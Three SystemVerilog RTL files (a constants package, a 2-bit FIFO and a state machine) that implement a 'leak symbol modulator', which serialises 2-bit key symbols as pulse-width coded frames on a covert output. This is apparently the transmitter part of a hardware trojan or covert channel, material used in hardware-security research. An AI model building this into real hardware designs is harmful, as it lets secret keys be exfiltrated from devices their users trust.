// File: rtl/leak_pkg.sv
// ============================================================================
// Module   : leak_pkg
// Brief    : Shared constants, FSM state encoding and frame-length helper for
//            the leak symbol modulator.
// Revision : 1.0 - initial release
// ============================================================================
`default_nettype none

package leak_pkg;

    localparam int unsigned c_sym_w = 2;

    typedef enum logic [1:0] {
        ST_IDLE  = 2'd0,
        ST_PRE   = 2'd1,
        ST_FRAME = 2'd2
    } leak_state_t;

    // A frame spans five pulse-width steps: up to four high, at least one low.
    function automatic int unsigned frame_len(input int unsigned unit);
        return 5 * unit;
    endfunction

endpackage

`default_nettype wire

// File: rtl/leak_sym_fifo.sv
// ============================================================================
// Module   : leak_sym_fifo
// Brief    : DEPTH x 2-bit synchronous FIFO, asynchronous active-high reset.
// Revision : 1.0 - initial release
// ============================================================================
`default_nettype none

module leak_sym_fifo
    import leak_pkg::*;
#(
    parameter int unsigned DEPTH = 64
) (
    input  logic                       clk,
    input  logic                       rst,
    input  logic                       i_push,
    input  logic [c_sym_w-1:0]         i_push_data,
    input  logic                       i_pop,
    output logic [c_sym_w-1:0]         o_head,
    output logic [$clog2(DEPTH):0]     o_count,
    output logic                       o_full,
    output logic                       o_empty
);

    localparam int unsigned c_aw    = $clog2(DEPTH);
    localparam int unsigned c_cnt_w = c_aw + 1;

    logic [c_sym_w-1:0] r_mem [DEPTH];
    logic [c_aw-1:0]    r_wr_ptr;
    logic [c_aw-1:0]    r_rd_ptr;
    logic [c_cnt_w-1:0] r_count;
    logic               w_push_ok;
    logic               w_pop_ok;

    // Full/empty come from the registered count only, so a push on a full
    // FIFO is dropped even when a pop happens on the same edge.
    assign o_full    = (r_count == c_cnt_w'(DEPTH));
    assign o_empty   = (r_count == '0);
    assign o_count   = r_count;
    assign o_head    = r_mem[r_rd_ptr];
    assign w_push_ok = i_push & ~o_full;
    assign w_pop_ok  = i_pop & ~o_empty;

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            for (int i = 0; i < int'(DEPTH); i++) begin
                r_mem[i] <= '0;
            end
            r_wr_ptr <= '0;
            r_rd_ptr <= '0;
            r_count  <= '0;
        end else begin
            if (w_push_ok) begin
                r_mem[r_wr_ptr] <= i_push_data;
                r_wr_ptr        <= r_wr_ptr + c_aw'(1);
            end
            if (w_pop_ok) begin
                r_rd_ptr <= r_rd_ptr + c_aw'(1);
            end
            case ({w_push_ok, w_pop_ok})
                2'b10:   r_count <= r_count + c_cnt_w'(1);
                2'b01:   r_count <= r_count - c_cnt_w'(1);
                default: r_count <= r_count;
            endcase
        end
    end

endmodule

`default_nettype wire

// File: rtl/leak_symbol_modulator.sv
// ============================================================================
// Module   : leak_symbol_modulator
// Brief    : Buffers 2-bit key symbols and serialises each as a pulse-width
//            coded frame on the covert output. Define LEAK_PREAMBLE_EN to
//            prefix every burst with an all-high preamble frame.
// Revision : 1.0 - initial release
// ============================================================================
`default_nettype none

module leak_symbol_modulator
    import leak_pkg::*;
#(
    parameter int unsigned DEPTH = 64,
    parameter int unsigned UNIT  = 4
) (
    input  logic               clk,
    input  logic               rst_all,
    input  logic               sym_valid,
    input  logic [c_sym_w-1:0] sym,
    output logic               out,
    output logic               busy,
    output logic               overflow
);

    localparam int unsigned         c_frame_len = frame_len(UNIT);
    localparam int unsigned         c_cnt_w     = $clog2(c_frame_len);
    localparam logic [c_cnt_w-1:0]  c_cnt_last  = c_cnt_w'(c_frame_len - 1);

    leak_state_t               r_state;
    leak_state_t               w_state_nxt;
    logic [c_cnt_w-1:0]        r_cnt;
    logic [c_cnt_w-1:0]        w_cnt_nxt;
    logic [c_sym_w-1:0]        r_sym;
    logic [c_sym_w-1:0]        w_sym_nxt;
    logic                      r_overflow;
    logic                      w_pop;
    logic                      w_cnt_last;
    logic [31:0]               w_hi_len;
    logic [c_sym_w-1:0]        w_head;
    logic [$clog2(DEPTH):0]    w_count;
    logic                      w_full;
    logic                      w_empty;

    leak_sym_fifo #(
        .DEPTH       (DEPTH)
    ) u_fifo (
        .clk         (clk),
        .rst         (rst_all),
        .i_push      (sym_valid),
        .i_push_data (sym),
        .i_pop       (w_pop),
        .o_head      (w_head),
        .o_count     (w_count),
        .o_full      (w_full),
        .o_empty     (w_empty)
    );

    assign w_cnt_last = (r_cnt == c_cnt_last);

    always_comb begin
        w_state_nxt = r_state;
        w_cnt_nxt   = r_cnt;
        w_sym_nxt   = r_sym;
        w_pop       = 1'b0;
        case (r_state)
            ST_IDLE: begin
                if (!w_empty) begin
                    w_cnt_nxt = '0;
`ifdef LEAK_PREAMBLE_EN
                    w_state_nxt = ST_PRE;
`else
                    w_pop       = 1'b1;
                    w_sym_nxt   = w_head;
                    w_state_nxt = ST_FRAME;
`endif
                end
            end
`ifdef LEAK_PREAMBLE_EN
            // The FIFO cannot drain while in PRE, so the pop here always succeeds.
            ST_PRE: begin
                if (w_cnt_last) begin
                    w_pop       = 1'b1;
                    w_sym_nxt   = w_head;
                    w_cnt_nxt   = '0;
                    w_state_nxt = ST_FRAME;
                end else begin
                    w_cnt_nxt = r_cnt + c_cnt_w'(1);
                end
            end
`endif
            ST_FRAME: begin
                if (w_cnt_last) begin
                    w_cnt_nxt = '0;
                    if (!w_empty) begin
                        w_pop     = 1'b1;
                        w_sym_nxt = w_head;
                    end else begin
                        w_state_nxt = ST_IDLE;
                    end
                end else begin
                    w_cnt_nxt = r_cnt + c_cnt_w'(1);
                end
            end
            default: begin
                w_state_nxt = ST_IDLE;
                w_cnt_nxt   = '0;
            end
        endcase
    end

    always_ff @(posedge clk or posedge rst_all) begin
        if (rst_all) begin
            r_state    <= ST_IDLE;
            r_cnt      <= '0;
            r_sym      <= '0;
            r_overflow <= 1'b0;
        end else begin
            r_state <= w_state_nxt;
            r_cnt   <= w_cnt_nxt;
            r_sym   <= w_sym_nxt;
            if (sym_valid && w_full) begin
                r_overflow <= 1'b1;
            end
        end
    end

    // Output decode uses registered state only; no path from the inputs.
    assign w_hi_len = (32'(r_sym) + 32'd1) * 32'(UNIT);

`ifdef LEAK_PREAMBLE_EN
    assign out = ((r_state == ST_FRAME) && (32'(r_cnt) < w_hi_len)) || (r_state == ST_PRE);
`else
    assign out = (r_state == ST_FRAME) && (32'(r_cnt) < w_hi_len);
`endif

    assign busy     = (r_state != ST_IDLE) || (w_count != '0);
    assign overflow = r_overflow;

endmodule

`default_nettype wire
